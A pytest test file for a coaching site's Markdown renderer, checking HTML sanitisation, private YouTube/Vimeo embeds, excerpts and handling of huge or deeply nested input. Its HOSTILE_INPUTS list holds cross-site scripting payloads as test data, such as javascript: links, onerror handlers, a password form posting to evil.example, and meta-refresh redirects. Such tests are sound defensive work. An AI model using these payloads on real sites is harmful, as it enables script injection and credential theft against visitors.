"""The Markdown renderer: what the coach writes becomes safe HTML, videos become private embeds."""

import re

import pytest

from painrelief.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown, video_player_url
from tests.html import TagCollector

HOSTILE_INPUTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>',
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b><i>unclosed <u>tags",
    "</div></article></main><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://ok.example" target="_blank" onclick="steal()">link</a>',
    '<img src="/media/x.jpg" alt="x" srcset="javascript:alert(1) 1x">',
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '[x](https://example.org "title" onclick=alert(1))',
    "\u202eevil\u202c and a NUL \x00 byte and zero\u200bwidth",
]


SAFE_TAGS = ALLOWED_TAGS - {"iframe"}


@pytest.mark.parametrize("source", HOSTILE_INPUTS)
def test_hostile_input_is_neutralised(source):
    """Whatever survives is an allowed element with allowed attributes and harmless addresses."""
    html = render_markdown(source).html

    for tag, attrs in TagCollector(html).elements:
        assert tag in SAFE_TAGS, (tag, html)
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"loading", "decoding"}, html
        for name in ("href", "src"):
            if name in attrs:
                assert re.match(r"(https?:|mailto:|/|#|[\w.-]+(/|$))", attrs[name]), html
                assert not re.match(r"\s*(javascript|vbscript|data):", attrs[name], re.I), html
    assert "<script" not in html.lower() and "<style" not in html.lower()
    assert "\x00" not in html


def test_markdown_features_the_coach_uses_survive():
    rendered = render_markdown(
        "# Why knots form\n\nSome **bold** and *soft* words, a [link](/articles/posture/) and "
        "[an outside one](https://example.org/a?b=1&c=2).\n\n"
        "1. Warm up\n2. Press\n\n- heat\n- rest\n\n> A quote\n\n![A knot](/media/x.jpg)\n\n"
        "| Side | Pain |\n|---|---|\n| left | 6 |\n"
    )

    assert '<h2 id="why-knots-form">Why knots form</h2>' in rendered.html  # h1 is the page title
    assert "<strong>bold</strong>" in rendered.html and "<em>soft</em>" in rendered.html
    assert '<a href="/articles/posture/">link</a>' in rendered.html
    assert 'href="https://example.org/a?b=1&amp;c=2"' in rendered.html
    assert "<ol>" in rendered.html and "<ul>" in rendered.html and "<blockquote>" in rendered.html
    images = [attrs for tag, attrs in TagCollector(rendered.html).elements if tag == "img"]
    assert images == [
        {"src": "/media/x.jpg", "alt": "A knot", "decoding": "async", "loading": "lazy"}
    ]
    assert "<table>" in rendered.html


def test_plain_text_excerpt_and_reading_time_come_from_the_rendered_body():
    rendered = render_markdown("## Heading\n\nFirst paragraph.\n\n" + "word " * 1000)

    assert rendered.text.startswith("Heading First paragraph. word word")
    assert rendered.excerpt.startswith("First paragraph. word")  # headings are left out
    assert rendered.excerpt.endswith("…") and len(rendered.excerpt.split()) == 45
    assert rendered.reading_minutes == 5  # 1,003 words at 220 a minute


@pytest.mark.parametrize(
    ("url", "player"),
    [
        (
            "https://www.youtube.com/watch?v=4pKly2JojMw",
            "https://www.youtube-nocookie.com/embed/4pKly2JojMw",
        ),
        (
            "https://youtu.be/4pKly2JojMw?t=90",
            "https://www.youtube-nocookie.com/embed/4pKly2JojMw?start=90",
        ),
        (
            "https://m.youtube.com/watch?v=4pKly2JojMw&t=1m30s",
            "https://www.youtube-nocookie.com/embed/4pKly2JojMw?start=90",
        ),
        (
            "https://www.youtube.com/shorts/4pKly2JojMw",
            "https://www.youtube-nocookie.com/embed/4pKly2JojMw",
        ),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871?dnt=1"),
        (
            "https://vimeo.com/76979871/abc123def0",
            "https://player.vimeo.com/video/76979871?h=abc123def0&dnt=1",
        ),
        (
            "https://player.vimeo.com/video/76979871",
            "https://player.vimeo.com/video/76979871?dnt=1",
        ),
        ("https://www.youtube.com/watch?v=short", None),
        ('https://www.youtube.com/watch?v=4pKly2Joj"x', None),
        ("https://youtube.com.evil.example/watch?v=4pKly2JojMw", None),
        ("https://evil.example/youtube.com/watch?v=4pKly2JojMw", None),
        ("https://vimeo.com/channels/staffpicks", None),
        ("javascript://youtube.com/%0aalert(1)", None),
    ],
)
def test_only_youtube_and_vimeo_links_become_players(url, player):
    assert video_player_url(url) == player


def test_a_video_link_alone_on_a_line_becomes_a_click_to_load_placeholder():
    html = render_markdown(
        "Watch this:\n\nhttps://www.youtube.com/watch?v=4pKly2JojMw\n\n"
        "But this stays a link: see https://youtu.be/4pKly2JojMw in a sentence.\n\n"
        "<https://vimeo.com/76979871>\n\nhttps://evil.example/video\n\n"
        "[Three stretches for the neck](https://youtu.be/4pKly2JojMw?t=90)\n"
    ).html

    # Nothing is loaded from the video sites: no frame, no picture, until the reader plays.
    assert "<iframe" not in html and "<img" not in html
    assert html.count('<figure class="video-embed"') == 3
    assert 'data-player="https://www.youtube-nocookie.com/embed/4pKly2JojMw"' in html
    assert 'data-player="https://player.vimeo.com/video/76979871?dnt=1"' in html
    assert 'data-player="https://www.youtube-nocookie.com/embed/4pKly2JojMw?start=90"' in html
    assert 'data-title="Three stretches for the neck"' in html
    assert 'data-title="A video on Vimeo"' in html
    assert '<a href="https://vimeo.com/76979871">Watch the video on Vimeo</a>' in html
    assert (
        'see <a href="https://youtu.be/4pKly2JojMw">https://youtu.be/4pKly2JojMw</a> in a sentence'
        in html
    )
    assert '<p><a href="https://evil.example/video">https://evil.example/video</a></p>' in html


def test_a_video_title_is_escaped_and_markup_keeps_the_plain_link():
    titled = render_markdown('[Neck "stretch" & 2 < 3](https://youtu.be/4pKly2JojMw)\n').html
    marked_up = render_markdown("[<b>Bold</b> title](https://youtu.be/4pKly2JojMw)\n").html

    assert 'data-title="Neck &quot;stretch&quot; &amp; 2 &lt; 3"' in titled
    assert "video-embed" not in marked_up and "<b>Bold</b>" in marked_up


def test_a_huge_or_deeply_nested_body_renders_without_error():
    """Python-Markdown needed minutes for nested brackets and overflowed the stack on deep lists."""
    bodies = [
        "word " * 200_000,
        "[" * 20_000 + "x" + "]" * 20_000,
        "*a **b " * 20_000,
        "<b>" * 10_000 + "deep" + "</b>" * 10_000,
        "> " * 5_000 + "deep quote",
        "- " * 5_000 + "deep list",
        "![" * 10_000,
    ]
    for body in bodies:
        html = render_markdown(body).html
        assert "<script" not in html
        assert html.count("<li>") <= 25 and html.count("<blockquote>") <= 25  # nesting is capped


def test_a_bare_web_address_becomes_a_link():
    """People paste addresses without Markdown: they still get a link."""
    html = render_markdown("More at https://www.nhs.uk/conditions/back-pain/ today.").html

    assert '<a href="https://www.nhs.uk/conditions/back-pain/">' in html
